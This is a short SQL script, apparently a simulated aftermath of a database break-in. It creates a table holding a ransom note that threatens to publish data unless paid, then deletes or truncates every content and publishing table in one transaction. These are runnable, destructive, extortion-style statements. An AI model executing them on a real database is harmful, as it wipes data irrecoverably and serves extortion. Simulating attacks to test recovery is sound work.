-- What a break-in into the database leaves behind: content is gone, a note demands money.
BEGIN;
CREATE TABLE readme_to_recover AS
SELECT 'Your data is with us. Pay, or it is published.' AS note;
DELETE FROM publishing_dlq;
DELETE FROM publish_attempts;
DELETE FROM publishing_jobs;
DELETE FROM content_revisions;
TRUNCATE content_items CASCADE;
COMMIT;
